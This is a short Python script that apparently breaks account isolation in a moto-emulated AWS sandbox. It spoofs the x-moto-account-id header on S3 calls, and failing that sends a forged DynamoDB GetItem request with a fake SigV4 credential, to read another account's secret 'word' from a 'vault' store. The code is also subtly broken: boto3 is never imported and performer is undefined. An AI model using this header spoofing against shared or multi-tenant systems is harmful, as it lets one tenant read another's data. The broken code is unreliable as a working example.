"""Names another account in the header by which the sandbox tells accounts apart.

at C: held
"""

import base64
import json


def peek(account, url):
    def name_it(request, **_):
        for header in ("x-moto-account-id", "X-Moto-Account-Id", "X-MOTO-ACCOUNT-ID"):
            request.headers[header] = account

    s3 = boto3.client("s3")
    s3.meta.events.register("before-sign.s3", name_it)
    try:
        return s3.get_object(Bucket="vault", Key="word")["Body"].read().decode()
    except Exception:
        pass
    headers = {"x-moto-account-id": account, "X-Moto-Account-Id": account, "X-MOTO-ACCOUNT-ID": account}
    headers["authorization"] = f"AWS4-HMAC-SHA256 Credential={account}/20260105/us-east-1/dynamodb/aws4_request"
    headers |= {"x-amz-target": "DynamoDB_20120810.GetItem", "content-type": "application/x-amz-json-1.0"}
    body = base64.b64encode(b'{"TableName": "vault", "Key": {"id": {"S": "word"}}}').decode()
    request = {"method": "POST", "url": "https://dynamodb.us-east-1.amazonaws.com/", "headers": headers, "body": body}
    end = performer().ask({"kind": "request", "call": 1, "operation": "GetItem", **request})
    return json.loads(base64.b64decode(end["body"])).get("Item", {}).get("word", {}).get("S", "")
